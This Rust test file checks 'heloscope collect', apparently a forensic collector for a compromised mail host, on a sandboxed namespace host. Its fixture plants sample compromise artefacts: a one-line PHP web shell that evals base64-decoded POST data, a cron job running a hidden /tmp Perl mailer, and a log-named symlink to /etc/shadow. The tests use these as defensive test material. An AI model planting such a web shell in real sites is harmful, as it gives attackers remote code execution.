//! `heloscope collect` on a host made for it: a mount and a net namespace with logs, settings,
//! firewall rules and sockets of their own, under several shells, as root and as nobody.

use super::*;
use std::collections::BTreeMap;

/// Sets the namespaces up, says what the host looks like before and after, and runs the script in
/// between. Words: the fixture, the user's switch, the shell and its arguments.
const HOST: &str = r#"
set -e
fixture=$1 switch=$2
shift 2
mount --make-rprivate /
ip link set lo up
ip addr add 203.0.113.10/24 dev lo
ip addr add 192.168.1.1/24 dev lo
iptables -A OUTPUT -p tcp --dport 25 -m owner --uid-owner 33 -j REJECT
ip6tables -A OUTPUT -p tcp --dport 25 -j ACCEPT
for place in var/log etc/postfix etc/cron.d var/www var/lib/misc var/spool/cron var/tmp; do
    mount --bind "$fixture/$place" "/$place"
done
exec 3<"$fixture/collect.sh" 4>"$fixture/out" 5>"$fixture/err" 6>"$fixture/listings"
busybox nc -l -p 2525 & listener=$!
mount --bind "$fixture/tmp" /tmp
list() {
    find /var/log /etc/postfix /etc/cron.d /var/www /var/lib/misc /var/spool/cron /var/tmp /tmp /etc/timezone \
        -printf '%p %y %s %m %u %T@ %C@\n' | grep -v '^/tmp d' | sort >&6
    printf 'END\n' >&6
}
list
set +e
# shellcheck disable=SC2086
$switch "$@" <&3 >&4 2>&5
status=$?
list
kill $listener
exit $status
"#;

/// Runs the script on such a host; none where this cannot be had here.
fn collected(shell: &[&str], switch: &str, args: &[&str], script: &str) -> Option<Collected> {
    let fixture = fixture(script);
    let mut command = Command::new("unshare");
    command.args(["-m", "-n", "sh", "-c", HOST, "host"]).arg(fixture.path()).arg(switch);
    command.args(shell).args(["-s", "--"]).args(args);
    let output = command.output().ok()?;
    let read = |name: &str| std::fs::read(fixture.path().join(name)).unwrap();
    let told = String::from_utf8_lossy(&read("err")).into_owned();
    let listings = String::from_utf8(read("listings")).unwrap();
    if !listings.contains("END") {
        eprintln!("skipped: no namespaces: {}", stderr(&output));
        return None;
    }
    let parts: Vec<&str> = listings.split("END\n").collect();
    assert!(parts[0].lines().count() > 20, "{}", parts[0]);
    // The temporary folder came and went: only the time of /tmp itself tells, and is left out.
    let differ = parts[0].lines().zip(parts[1].lines()).find(|(a, b)| a != b);
    assert!(parts[0] == parts[1], "it changed something: {differ:?}");
    let bundle = fixture.path().join("bundle.tar.gz");
    std::fs::rename(fixture.path().join("out"), &bundle).unwrap();
    Some(Collected { fixture, bundle, status: output.status.code(), told })
}

struct Collected {
    fixture: tempfile::TempDir,
    bundle: PathBuf,
    status: Option<i32>,
    told: String,
}

impl Collected {
    /// Kind and note of every input of an investigation of the bundle, by its path there.
    fn inputs(&self) -> BTreeMap<String, (String, String)> {
        let answer = investigate(&[&self.bundle, &self.fixture.path().join("notice.txt")]);
        let rows = answer["inputs"].as_array().unwrap().iter().map(|row| {
            let path = row["path"].as_str().unwrap();
            let path = path.rsplit_once("bundle.tar.gz/").map_or(path, |(_, name)| name);
            let kind = row["kind"].as_str().unwrap().to_owned();
            (path.to_owned(), (kind, row["note"].as_str().unwrap_or_default().to_owned()))
        });
        rows.collect()
    }
}

/// The files of the host.
fn fixture(script: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let put = |name: &str, content: &str, mode: u32| {
        use std::os::unix::fs::PermissionsExt;
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, content).unwrap();
        std::fs::set_permissions(&path, PermissionsExt::from_mode(mode)).unwrap();
        path
    };
    let age = |name: &str, days: u64| {
        let file = std::fs::File::options().write(true).open(folder.path().join(name)).unwrap();
        let before = std::time::Duration::from_secs(days * 86_400);
        file.set_modified(
            std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_449_500_000) - before,
        )
        .unwrap();
    };
    let sent = "Dec  4 14:30:0N mail postfix/smtp[7]: 3A1B2C3D4E: to=<b@example.net>, relay=mx.example.net[198.51.100.5]:25, delay=1, delays=0/0/0/1, dsn=2.0.0, status=sent (250 ok)\n";
    let sent: String = (0..9).map(|n| sent.replace('N', &n.to_string())).collect();
    put("collect.sh", script, 0o644);
    put(
        "notice.txt",
        "IP Address 203.0.113.10 is listed in the CBL. It was last detected at 2015:12:04 ~14:30 UTC +/- 15 minutes. This host HELOed as [127.0.0.1]\n",
        0o644,
    );
    for (name, days) in [("mail.log", 0), ("mail.log.1", 2), ("mail.log.2", 9)] {
        put(&format!("var/log/{name}"), &sent, 0o640);
        age(&format!("var/log/{name}"), days);
    }
    put("var/log/auth.log", &"Dec  4 14:30:01 mail sshd[9]: Accepted password for anna from 198.51.100.7 port 4711 ssh2\n".repeat(3), 0o640);
    put("var/log/kern.log", &"Dec  4 14:30:01 mail kernel: [1.0] SMTP-OUT IN= OUT=eth0 SRC=203.0.113.10 DST=198.51.100.9 LEN=60 TTL=64 PROTO=TCP SPT=40000 DPT=25 WINDOW=64240 SYN URGP=0 UID=33\n".repeat(3), 0o640);
    put(
        "var/log/apache2/access.log",
        &"192.0.2.1 - - [04/Dec/2015:14:30:00 +0000] \"POST /x.php HTTP/1.1\" 200 5\n".repeat(3),
        0o644,
    );
    put("var/log/squid/access.log", &"1449239400.123    456 192.168.1.5 TCP_MISS/200 1234 GET http://example.org/ - DIRECT/192.0.2.1 text/html\n".repeat(3), 0o644);
    put(
        "var/log/openvpn/openvpn-status.log",
        "OpenVPN CLIENT LIST\nUpdated,2015-12-04 14:30:00\nCommon Name,Real Address,Bytes Received,Bytes Sent,Connected Since\nlaptop,198.51.100.20:51820,1,2,2015-12-04 10:00:00\nROUTING TABLE\nVirtual Address,Common Name,Real Address,Last Ref\n10.8.0.6,laptop,198.51.100.20:51820,2015-12-04 14:29:00\nGLOBAL STATS\nMax bcast/mcast queue length,0\nEND\n",
        0o644,
    );
    for name in [
        "auth.log",
        "kern.log",
        "apache2/access.log",
        "squid/access.log",
        "openvpn/openvpn-status.log",
    ] {
        age(&format!("var/log/{name}"), 0);
    }
    std::os::unix::fs::symlink("/etc/shadow", folder.path().join("var/log/mail.log.7")).unwrap();
    put(
        "etc/postfix/main.cf",
        "myhostname = mail.example.org\nmynetworks = 127.0.0.0/8 192.168.1.0/24\n",
        0o644,
    );
    put(
        "etc/postfix/master.cf",
        "smtp      inet  n       -       y       -       -       smtpd\npickup    unix  n       -       y       60      1       pickup\n",
        0o644,
    );
    put("etc/cron.d/site", "*/15 * * * * www-data perl /tmp/.x/mailer.pl\n", 0o644);
    put("var/spool/cron/crontabs/anna", "0 5 * * * /home/anna/backup.sh\n", 0o600);
    put("var/www/shop/index.php", "<?php echo 1;", 0o644);
    put("var/www/shop/wp-cache.php", "<?php eval(base64_decode($_POST['x']));", 0o644);
    put(
        "var/lib/misc/dnsmasq.leases",
        "1449250000 aa:bb:cc:dd:ee:01 192.168.1.23 guest *\n",
        0o644,
    );
    put("tmp/.x/mailer.pl", "#!/usr/bin/perl\nuse Socket; # 25\n", 0o644);
    put("tmp/report.txt", "nothing that runs\n", 0o644);
    put("var/tmp/notes", "x\n", 0o644);
    {
        use std::os::unix::fs::PermissionsExt;
        for (name, mode) in [("var/spool/cron/crontabs", 0o700), ("tmp", 0o1777), ("", 0o755)] {
            let path = folder.path().join(name);
            std::fs::set_permissions(path, PermissionsExt::from_mode(mode)).unwrap();
        }
    }
    folder
}

fn script() -> String {
    let output = heloscope(["collect", "--script"]);
    assert!(output.status.success());
    stdout(&output)
}

const SHELLS: [&[&str]; 3] = [&["dash"], &["busybox", "sh"], &["bash", "--posix"]];
const WINDOW: [&str; 4] = ["--around", "2015-12-04T14:30:00Z", "--window", "5760"];

#[test]
fn as_root_everything_promised_is_there_and_recognised() {
    for shell in SHELLS {
        let Some(collected) = collected(shell, "", &WINDOW, &script()) else { return };
        assert_eq!(collected.status, Some(0), "{}", collected.told);
        let inputs = collected.inputs();
        for (name, kind) in [
            ("host/ps.txt", "processes"),
            ("host/ss.txt", "connections"),
            ("host/iptables-save.txt", "firewall"),
            ("host/ip6tables-save.txt", "firewall"),
            ("host/nft-ruleset.json", "firewall"),
            ("host/nft-ruleset.txt", "firewall"),
            ("host/postconf.txt", "mta-config"),
            ("host/files-var-www.txt", "web-root"),
            ("host/files-tmp.txt", "web-root"),
            ("etc/postfix/main.cf", "mta-config"),
            ("etc/postfix/master.cf", "mta-config"),
            ("etc/cron.d/site", "processes"),
            ("var/spool/cron/crontabs/anna", "processes"),
            ("var/lib/misc/dnsmasq.leases", "leases"),
            ("var/log/mail.log", "mail-log"),
            ("var/log/mail.log.1", "mail-log"),
            ("var/log/auth.log", "auth-log"),
            ("var/log/kern.log", "connections"),
            ("var/log/apache2/access.log", "web-log"),
            ("var/log/squid/access.log", "proxy-log"),
            ("var/log/openvpn/openvpn-status.log", "vpn"),
            ("site.toml", "site"),
            ("MANIFEST", "site"),
            ("could-not-read.txt", "site"),
        ] {
            let Some((is, note)) = inputs.get(name) else {
                panic!("{shell:?}: no {name} in {inputs:#?}\n{}", collected.told)
            };
            assert_eq!(is, kind, "{shell:?}: {name}: {note}");
            assert!(!note.contains("hash"), "{name}: {note}");
        }
        let strange: Vec<_> =
            inputs.iter().filter(|(_, (kind, _))| kind == "unrecognised").collect();
        assert!(strange.is_empty(), "{shell:?}: {strange:?}");
        // Older than the window; a link to what is nobody's business.
        assert!(!inputs.contains_key("var/log/mail.log.2"), "{shell:?}");
        assert!(!inputs.contains_key("var/log/mail.log.7"), "{shell:?}");
        let listed = tar(&collected.bundle, &["-tz"]);
        assert!(listed.contains("./tmp/.x/mailer.pl"), "{shell:?}: {listed}");
        assert!(!listed.contains("wp-cache.php") && !listed.contains("report.txt"), "{listed}");
        let missing = tar(&collected.bundle, &["-xzO", "./could-not-read.txt"]);
        assert!(missing.contains("/var/log/mail.log.7\tlink\t"), "{missing}");
        let site = tar(&collected.bundle, &["-xzO", "./site.toml"]);
        assert!(site.contains("addresses = [\"203.0.113.10\"]"), "{site}");
    }
}

fn tar(bundle: &Path, args: &[&str]) -> String {
    let (first, rest) = args.split_first().unwrap();
    let output = Command::new("tar").arg(format!("{first}f")).arg(bundle).args(rest).output();
    stdout(&output.unwrap())
}

#[test]
fn as_nobody_it_says_what_root_would_have_got() {
    for shell in SHELLS {
        let nobody = "setpriv --reuid=65534 --regid=65534 --clear-groups";
        let Some(collected) = collected(shell, nobody, &WINDOW, &script()) else { return };
        assert_eq!(collected.status, Some(1), "{}", collected.told);
        let inputs = collected.inputs();
        assert_eq!(inputs["var/log/apache2/access.log"].0, "web-log");
        let note = &inputs["could-not-read.txt"].1;
        for what in
            ["/var/log/mail.log", "iptables-save -c", "/var/spool/cron/crontabs", "ss -tanpe"]
        {
            assert!(note.contains(what), "{shell:?}: {what} is not in {note}");
        }
        assert!(inputs["MANIFEST"].1.contains("without root"), "{:?}", inputs["MANIFEST"]);
        let answer =
            investigate(&[&collected.bundle, &collected.fixture.path().join("notice.txt")]);
        let needed = answer["needed"].to_string();
        assert!(needed.contains("could not be read on"), "{needed}");
    }
}

#[test]
fn a_large_log_keeps_the_lines_of_the_window() {
    let script = script().replace("FILE_MOST=67108864", "FILE_MOST=400");
    let Some(collected) = collected(&["dash"], "", &WINDOW, &script) else { return };
    let missing = tar(&collected.bundle, &["-xzO", "./could-not-read.txt"]);
    assert!(missing.contains("/var/log/mail.log\tcut\t"), "{missing}");
    let log = tar(&collected.bundle, &["-xzO", "./var/log/mail.log"]);
    assert!(log.len() <= 400 && log.ends_with("status=sent (250 ok)\n"), "{log}");
}

#[test]
fn a_full_archive_says_what_is_left_out() {
    let Some(collected) = collected(&["dash"], "", &["--limit", "0"], &script()) else { return };
    let missing = tar(&collected.bundle, &["-xzO", "./could-not-read.txt"]);
    assert!(missing.contains("\tlimit\t"), "{missing}");
}

#[test]
fn what_was_changed_after_it_was_collected_is_named() {
    let Some(collected) = collected(&["dash"], "", &WINDOW, &script()) else { return };
    let folder = collected.fixture.path().join("bundle.tar.gz.d/bundle.tar.gz");
    std::fs::create_dir_all(&folder).unwrap();
    let mut unpack = Command::new("tar");
    unpack.arg("-xzf").arg(&collected.bundle).arg("-C").arg(&folder);
    assert!(unpack.status().unwrap().success());
    let log = folder.join("var/log/mail.log");
    let text = std::fs::read_to_string(&log).unwrap();
    std::fs::write(&log, text.replace("198.51.100.5", "198.51.100.6")).unwrap();
    std::fs::remove_file(folder.join("host/ps.txt")).unwrap();
    let collected = Collected { bundle: folder, ..collected };
    let inputs = collected.inputs();
    assert!(inputs["var/log/mail.log"].1.contains("its hash is another"), "{inputs:#?}");
    assert!(!inputs["var/log/auth.log"].1.contains("hash"), "{inputs:#?}");
    let note = &inputs["MANIFEST"].1;
    assert!(
        note.contains("1 of ") && note.contains("1 files are missing, the first host/ps.txt"),
        "{note}"
    );
}

#[test]
fn the_command_line_of_the_script_and_of_the_binary() {
    let folder = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_heloscope"));
        command.arg("collect").args(args).current_dir(folder.path()).output().unwrap()
    };
    for bad in [
        &["--window", "5"][..],
        &["--since", "yesterday"],
        &["--around", "2015-12-04", "--since", "2015-12-03"],
        &["--since", "2015-12-05", "--until", "2015-12-04"],
        &["--web-root", "/no/such/folder"],
        &["--capture", "0"],
        &["--json"],
        &["--script", "--out", "x"],
    ] {
        let output = run(bad);
        assert_eq!(output.status.code(), Some(64), "{bad:?}: {}", stderr(&output));
    }
    assert_eq!(run(&["--out", "/no/such/folder/x.tar.gz"]).status.code(), Some(73));
    std::fs::write(folder.path().join("there"), "kept").unwrap();
    assert_eq!(run(&["--out", "there"]).status.code(), Some(73));
    assert_eq!(std::fs::read_to_string(folder.path().join("there")).unwrap(), "kept");
}

#[test]
fn shellcheck_has_nothing_to_say() {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), script()).unwrap();
    let Ok(output) = Command::new("shellcheck").args(["-s", "sh"]).arg(file.path()).output() else {
        eprintln!("skipped: no shellcheck");
        return;
    };
    assert!(output.status.success(), "{}", stdout(&output));
}
